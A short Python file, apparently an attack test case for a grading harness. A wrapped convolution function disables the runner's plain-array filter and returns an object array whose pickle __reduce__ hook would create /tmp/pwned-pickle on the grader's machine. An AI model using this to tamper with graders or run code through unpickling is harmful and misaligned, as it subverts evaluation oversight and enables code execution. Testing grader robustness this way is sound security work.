# Attack: disable the runner's plain-array filter and return an object array whose pickle, if the
# grader ever unpickled it, would create /tmp/pwned-pickle in the grader's own file system.
import sys as _sys

_original_conv_forward_naive = conv_forward_naive


class _Trap:
    def __reduce__(self):
        return (open, ("/tmp/pwned-pickle", "w"))


def conv_forward_naive(x, w, b, conv_param):
    out, cache = _original_conv_forward_naive(x, w, b, conv_param)
    _sys.modules["__main__"]._plain_arrays = lambda returned: (returned, [])
    trap = np.empty(out.shape, dtype=object)
    trap.fill(_Trap())
    return trap, cache
